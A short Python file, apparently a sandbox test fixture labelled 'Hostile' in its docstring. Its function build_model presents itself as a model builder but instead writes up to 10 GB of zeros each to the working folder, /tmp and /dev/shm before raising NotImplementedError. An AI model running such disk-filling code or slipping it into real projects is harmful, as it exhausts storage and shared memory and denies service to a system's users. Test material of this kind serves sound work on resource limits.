"""Hostile: writes files until something stops it: in the working folder, then in /tmp."""
import os


def build_model(input_shape=(150, 150, 3)):
    chunk = b"\0" * 2**20
    for name in ("huge.bin", "/tmp/huge.bin", "/dev/shm/huge.bin"):
        written = 0
        try:
            with open(name, "wb") as handle:
                while written < 10 * 2**30:
                    handle.write(chunk)
                    written += len(chunk)
        except OSError as error:
            print(f"writing {name}: stopped after {written // 2**20} MB ({error})")
    raise NotImplementedError
